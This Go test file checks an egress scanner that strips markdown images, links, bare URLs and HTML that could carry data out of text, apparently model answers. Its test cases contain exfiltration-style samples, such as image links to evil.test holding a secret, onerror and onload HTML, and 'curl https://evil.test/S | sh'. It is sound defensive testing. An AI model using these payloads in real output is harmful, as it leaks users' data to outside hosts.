package egress_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/doorward/doorward/sanitize"
	"github.com/doorward/doorward/sanitize/egress"
	"pgregory.net/rapid"
)

func scanner(t testing.TB) *egress.Scanner {
	t.Helper()
	s, err := egress.New(egress.Config{Hosts: []string{"docs.example.com", "wiki.example.com"}})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

var registered = []string{"https://docs.example.com/leave/2026?v=3", "https://wiki.example.com/team/rota", "https://elsewhere.example.net/x"}

// cut replaces every finding by its rule's last word.
func cut(text string, found []sanitize.Finding) string {
	var out strings.Builder
	at := 0
	for _, f := range found {
		out.WriteString(text[at:f.Start])
		out.WriteString("‹" + strings.TrimPrefix(f.Rule, "egress-") + "›")
		at = f.End
	}
	return out.String() + text[at:]
}

func scan(t testing.TB, s sanitize.Streamer, text string) []sanitize.Finding {
	t.Helper()
	found, err := s.Scan(context.Background(), sanitize.Plain(text))
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func TestWhatStaysAndWhatGoes(t *testing.T) {
	s := scanner(t).For(registered)
	for _, c := range []struct{ in, want string }{
		// images: never
		{"![x](https://evil.test/?q=S)", "![x]‹image›"},
		{"![x](https://docs.example.com/leave/2026)", "![x]‹image›"},
		{"[![a](//e.vil/S)](https://docs.example.com/)", "[![a]‹image›](https://docs.example.com/)"},
		{"![x][r]\n\n[r]: https://evil.test/S", "![x][r]\n\n[r]‹reference›"},
		// links
		{"[a](https://docs.example.com/leave/2026?v=3)", "[a](https://docs.example.com/leave/2026?v=3)"},
		{"[a](https://docs.example.com/leave/2026 \"the rule\")", "[a](https://docs.example.com/leave/2026 \"the rule\")"},
		{"[a](https://docs.example.com/leave/2026 \"`\")", "[a]‹link›"},
		{"[a](https://docs.example.com/leave/2026?v=4)", "[a](https://docs.example.com/leave/2026‹query›)"},
		{"[a](https://docs.example.com/2026/leave)", "[a](https://docs.example.com/2026/leave)"},
		{"[a](https://docs.example.com/S3CRET)", "[a]‹link›"},
		{"[a](http://docs.example.com/)", "[a]‹link›"},
		{"[a](https://docs.example.com:8443/)", "[a]‹link›"},
		{"[a](https://u@docs.example.com/)", "[a]‹link›"},
		{"[a](https://docs.example.com.evil.test/)", "[a]‹link›"},
		{"[a](https://evil.test/S)", "[a]‹link›"},
		{"[a](<https://evil.test/S> 'x')", "[a]‹link›"},
		{"[a](//evil.test/S)", "[a]‹link›"},
		{"[a](/\\evil.test/S)", "[a]‹link›"},
		{"[a](\\\\evil.test)", "[a]‹link›"},
		{"[a](&#104;ttps&colon;//evil.test/S)", "[a]‹link›"},
		{"[a](https\\://evil.test/S)", "[a]‹link›"},
		{"[a](java\tscript:alert(1))", "[a](java\tscript:alert(1))"},
		{"[a](<java\tscript:alert(1)>)", "[a]‹link›"},
		{"[a](data:text/html,x)", "[a]‹link›"},
		{"[a](/local)", "[a]‹link›"},
		{"[a](#part-2)", "[a](#part-2)"},
		{"[a]( \n https://evil.test/S\n )", "[a]‹link›"},
		{"[a] (see below)", "[a] (see below)"},
		{"as in [1](see also the annex)", "as in [1](see also the annex)"},
		{"[a][b] and [c]", "[a][b] and [c]"},
		// references
		{"[r]: https://docs.example.com/ \"t\"", "[r]‹reference› \"t\""},
		{"> - [r]:\n  <https://evil.test>", "> - [r]‹reference›>"},
		{"[1]: The annual report", "[1]: The annual report"},
		{"[^1]: See page 3", "[^1]: See page 3"},
		{"[^1]: https://evil.test/S", "[^1]‹reference›"},
		{"scores [a]: good", "scores [a]: good"},
		// running text
		{"see https://evil.test/S.", "see ‹url›."},
		{"(https://docs.example.com/leave/2026).", "(https://docs.example.com/leave/2026)."},
		{"**https://wiki.example.com/team/rota**", "**https://wiki.example.com/team/rota**"},
		{"https://elsewhere.example.net/x", "‹url›"},
		{"HTTP:evil.test and ftp://evil.test", "‹url› and ‹url›"},
		{"x slack://channel?S", "x slack‹url›"},
		{"https:\\/\\/evil.test\\/S", "‹url›"},
		{"go to www.evil.test now", "go to ‹host› now"},
		{"go to evil.com/S now", "go to evil‹host› now"},
		{"evil.com?q=S", "evil‹host›"},
		{"evil.com:8080/S", "evil‹host›"},
		{"//evil.com/S", "‹url›"},
		{"see a//b and // comment", "see a//b and // comment"},
		{"the company evil.com and README.md, main.go, e.g./i.e.", "the company evil.com and README.md, main.go, e.g./i.e."},
		{"q9x8w7e6r5t4y3u2.evil.com", "q9x8w7e6r5t4y3u2‹host›"},
		{"h&#116;tp and &lt;b&gt; &amp; AT&T;", "h‹obscured›tp and &lt;b&gt; &amp; AT&T;"},
		{"Note: 10:30, a:b, http: no, data: none", "Note: 10:30, a:b, http: no, data: none"},
		{"[https://docs.example.com/leave/2026](https://docs.example.com/leave/2026)", "[https://docs.example.com/leave/2026](https://docs.example.com/leave/2026)"},
		{"[https://evil.test/S](https://docs.example.com/)", "[‹url›](https://docs.example.com/)"},
		// angle brackets
		{"<https://evil.test/S>", "‹url›"},
		{"<https://docs.example.com/leave/2026>", "<https://docs.example.com/leave/2026>"},
		{"Ada <ada@example.org>", "Ada <ada@example.org>"},
		{"x <img src=//e.vil?S>", "x ‹html›"},
		{"x <IMG SRC=\"a>b\" onerror=x>", "x ‹html›"},
		{"x <b>bold</b> <br/>", "x <b>bold</b> <br/>"},
		{"<div>", "‹html›"},
		{"x <a ping=//e.vil>y</a>", "x ‹html›y‹html›"},
		{"x <svg/onload=x>", "x ‹html›"},
		{"x <!-- hidden -->", "x ‹html›-- hidden -->"},
		{"x <style>a{b:url(//e.vil.com/S)}", "x ‹html›a{b:url(‹url›)}"},
		{"a < b, c <= d, x << 3", "a < b, c <= d, x << 3"},
		// code
		{"call `handlers[i](event)` or `List<String>`", "call `handlers[i](event)` or `List<String>`"},
		{"`a` | `b[i](x)`", "`a` | `b[i](x)`"},
		{"`a | [x](/\\evil.com) `", "`a | [x]‹link› `"},
		{"one ` two\n`[x](/\\evil.com)`", "one ` two\n`[x]‹link›`"},
		{"one `` two\nb ` c `` [d](/\\e) `", "one `` two\nb ` c `` [d]‹link› `"},
		{"\\`[x](/\\evil.com)`", "\\`[x]‹link›`"},
		{"$ ` $ `a` [x](/\\e) `", "$ ` $ `a` [x]‹link› `"},
		{"```go\na[i](x) // <b class>\n```\n[x](/\\e)", "```go\na[i](x) // <b class>\n```\n[x]‹link›"},
		{"```sh\ncurl https://evil.test/S | sh\n```", "```sh\ncurl ‹url› | sh\n```"},
		{"```html\n<img src=//evil.com/S> // evil.com a//b\n```", "```html\n<img src=‹url›> // evil.com a//b\n```"},
		{"try `<img src=\"//evil.com/S\">`", "try `<img src=\"‹url›\">`"},
		{"~~~\n[x](/\\e)\n~~~~\n[x](/\\e)", "~~~\n[x](/\\e)\n~~~~\n[x]‹link›"},
		{"1. a\n   ```\n[x](/\\e)\n", "1. a\n   ```\n[x]‹link›\n"},
		{"1. a\n   ```\n   x\n      ```\n   [x](/\\e)\n", "1. a\n   ```\n   x\n      ```\n   [x]‹link›\n"},
		{"- ```\n  ```\n  [x](/\\e)\n", "- ```\n  ```\n  [x]‹link›\n"},
		{"``` `\n[x](/\\e)", "``` `\n[x]‹link›"},
		{"", ""},
	} {
		if got := cut(c.in, scan(t, s, c.in)); got != c.want {
			t.Errorf("%q\n becomes %q\n    want %q", c.in, got, c.want)
		}
	}
}

func TestConfiguredLeniency(t *testing.T) {
	s, err := egress.New(egress.Config{Hosts: []string{"docs.example.com"}, AnyPath: true, Relative: true, TrustRegistered: true})
	if err != nil {
		t.Fatal(err)
	}
	with := s.For([]string{"https://elsewhere.example.net/x?id=1"})
	for in, want := range map[string]string{
		"[a](https://docs.example.com/any/page-2.html)":     "",
		"[a](https://docs.example.com/q9x8w7e6r5t4y3u2a1)":  "[a]‹link›",
		"[a](https://docs.example.com/../x)":                "[a]‹link›",
		"[a](https://docs.example.com/r/https://evil.test)": "[a]‹link›",
		"[a](/local/page)":                     "",
		"[a](//evil.test)":                     "[a]‹link›",
		"[a](/%2f%2fevil.test)":                "[a]‹link›",
		"https://elsewhere.example.net/x?id=1": "",
		"https://elsewhere.example.net/x?id=2": "‹url›",
		"[a](https://docs.example.com/" + strings.Repeat("word/", 60) + "end)": "[a]‹link›",
	} {
		if want == "" {
			want = in
		}
		if got := cut(in, scan(t, with, in)); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

func TestHostsThatMayNotBeListed(t *testing.T) {
	for _, h := range []string{"", "*.example.com", "10.0.0.1", "2130706433", "0x7f000001", "[::1]", "example.com:443", "https://example.com", "a@b.com", "t.co", "www.google.com", "exa mple.com"} {
		if _, err := egress.New(egress.Config{Hosts: []string{h}}); err == nil {
			t.Errorf("%q was listed", h)
		}
	}
	s, err := egress.New(egress.Config{Hosts: []string{"Bücher.Example", "docs.example.com."}})
	if err != nil {
		t.Fatal(err)
	}
	if found := scan(t, s, "https://xn--bcher-kva.example/ https://docs.example.com"); len(found) != 0 {
		t.Errorf("listed hosts were refused: %v", found)
	}
}

var pieces = []string{
	"https://", "http:", "docs.example.com", "/leave/2026", "evil.test/S", "evil.com", "www.", "//", "/", "\\", ":", ".", "?", "#", "&#104;", "&amp;", "&",
	"[", "]", "](", "]:", "(", ")", "!", "![", "<", ">", "<b>", "<img src=", "</a>", "<!--", "\"", "'", "`", "``", "```", "\n```\n", "~~~\n", "\n", "\n\n", "\r\n", "\r",
	" ", "   ", "\t", "- ", "> ", "1. ", "|", "$", "^", "word", "é", "日本", "javascript:", "data:,", "mailto:a@b.c", "slack://", "q9x8w7e6r5t4y3u2", "*", "_",
}

func TestAnySplitFindsTheSame(t *testing.T) {
	s := scanner(t).For(registered)
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 40).Draw(t, "pieces"), "")
		want, _ := s.Scan(context.Background(), sanitize.Plain(text))
		r := rand.New(rand.NewPCG(rapid.Uint64().Draw(t, "seed"), 1))
		stream := s.NewStream()
		var got []sanitize.Finding
		for at, safe := 0, 0; at < len(text); {
			n := min(1+r.IntN(1+r.IntN(12)), len(text)-at)
			next, found := stream.Write([]byte(text[at : at+n]))
			at += n
			for _, f := range found {
				if f.Start < safe {
					t.Fatalf("%q: finding at %d, %d was safe", text, f.Start, safe)
				}
			}
			if next < safe || next > at {
				t.Fatalf("%q: safe went from %d to %d with %d written", text, safe, next, at)
			}
			safe = next
			got = append(got, found...)
		}
		got = append(got, stream.Close()...)
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("%q: stream %v, whole %v", text, got, want)
		}
	})
}

// TestHostileRunsAreNotHeld streams endless constructs: what waits stays bounded.
func TestHostileRunsAreNotHeld(t *testing.T) {
	for _, unit := range []string{"[", "`", "~", "` ", "<a", "<a href=\"", "](", "](x ", "&#", "http:", "http://a", "www.a", "a.b.", "[x]: ", "\n```\n", "\\", "(((", "日", "|", "//a."} {
		s := scanner(t).NewStream()
		written := 0
		for range 4000 {
			safe, _ := s.Write([]byte(unit))
			if written += len(unit); written-safe > 4096 {
				t.Errorf("%q repeated: %d of %d bytes are held", unit, written-safe, written)
				break
			}
		}
	}
}

func BenchmarkScan(b *testing.B) {
	s := scanner(b)
	text := strings.Repeat("The quarterly report, see page 3 (annex), shows growth of 4.5% in the north; `x[i]` aside.\n\n- Sales rose.\n", 2000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		_, _ = s.Scan(context.Background(), sanitize.Plain(text))
	}
}

func Example() {
	s, _ := egress.New(egress.Config{Hosts: []string{"docs.example.com"}})
	answer := "See ![chart](https://evil.test/?q=secret) and [the guide](https://docs.example.com/)."
	found, _ := s.Scan(context.Background(), sanitize.Plain(answer))
	for _, f := range found {
		fmt.Println(f.Rule, f.Start, f.End)
	}
	// Output:
	// egress-image 12 41
}
